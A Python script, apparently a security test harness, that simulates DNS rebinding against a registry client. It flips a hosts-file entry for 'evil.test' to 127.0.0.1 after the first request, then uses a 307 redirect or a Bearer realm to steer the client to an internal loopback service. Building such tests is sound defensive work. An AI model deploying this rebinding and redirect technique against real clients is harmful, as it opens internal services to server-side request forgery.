#!/usr/bin/env python3
"""A registry whose name means this machine as soon as it has been asked once.

    rebinding-registry.py MODE ADDRESS HOSTS

It listens on a free port of ADDRESS, one of this machine that is no loopback address, and an accomplice on one of
127.0.0.1. HOSTS is a file in the form of /etc/hosts in which "evil.test" is ADDRESS, and 127.0.0.1 once the registry
has answered. MODE:

    realm       asks for a bearer token from the accomplice, by the registry's own name
    redirect    redirects everything there

Prints a line for each request that the accomplice gets.
"""

import http.server
import sys
import threading


def point_to(address):
    with open(sys.argv[3], "w", encoding="ascii") as hosts:
        hosts.write(f"127.0.0.1 localhost\n{address} evil.test\n")


class Handler(http.server.BaseHTTPRequestHandler):
    def log_message(self, *_):
        """Nothing: the lines of the accomplice are the log."""


class Accomplice(Handler):
    def do_GET(self):
        print(f"reached {self.path}", flush=True)
        body = b'{"token":"x"}'
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


class Registry(Handler):
    target = ""

    def do_GET(self):
        point_to("127.0.0.1")
        if sys.argv[1] == "redirect":
            self.send_response(307)
            self.send_header("Location", self.target)
        else:
            self.send_response(401)
            self.send_header("WWW-Authenticate", f'Bearer realm="{self.target}",service="s"')
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_HEAD = do_GET


def main():
    accomplice = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Accomplice)
    registry = http.server.ThreadingHTTPServer((sys.argv[2], 0), Registry)
    Registry.target = f"http://evil.test:{accomplice.server_port}/internal"
    point_to(sys.argv[2])
    threading.Thread(target=accomplice.serve_forever, daemon=True).start()
    print(f"listening on {sys.argv[2]}:{registry.server_port}", flush=True)
    registry.serve_forever()


if __name__ == "__main__":
    main()
